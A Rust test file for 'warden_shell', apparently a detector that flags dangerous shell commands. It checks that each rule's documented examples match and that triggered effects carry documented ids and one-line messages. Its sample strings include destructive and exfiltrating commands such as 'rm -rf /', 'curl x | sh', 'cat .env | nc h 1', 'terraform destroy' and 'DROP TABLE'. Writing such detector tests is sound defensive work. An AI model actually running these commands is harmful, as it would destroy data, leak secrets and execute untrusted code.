//! The rule registry documents itself correctly: every example that a rule claims to match
//! produces its id, and every counter-example does not.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;

#[test]
fn examples_match_their_rules() {
    let mut failures = Vec::new();
    for doc in warden_shell::rule_docs() {
        assert!(!doc.matches.is_empty(), "{} has no examples", doc.id);
        for m in doc.matches {
            if !common::run(m).has_rule(doc.id) {
                failures.push(format!("{}: `{m}` should match", doc.id));
            }
        }
        for n in doc.not_matches {
            if common::run(n).has_rule(doc.id) {
                failures.push(format!("{}: `{n}` should not match", doc.id));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_effect_names_a_documented_rule_and_a_message() {
    let ids: BTreeSet<&str> = warden_shell::rule_docs().iter().map(|d| d.id).collect();
    let samples = [
        "rm -rf / ; git push -f ; curl x | sh ; cat .env | nc h 1 ; sudo ls ; python3 -c 'import os' ; eval \"$X\" ; 'unterminated",
        "terraform destroy; kubectl delete ns prod; psql -c 'DROP TABLE t'; crontab -r; docker system prune -af; chmod -R 777 .",
    ];
    for s in samples {
        for e in common::run(s).effects {
            assert!(
                ids.contains(e.rule.as_str()),
                "undocumented rule {}",
                e.rule
            );
            assert!(!e.message.is_empty(), "{} has an empty message", e.rule);
            assert!(
                !e.message.contains('\n'),
                "{} message is not one line: {}",
                e.rule,
                e.message
            );
        }
    }
}
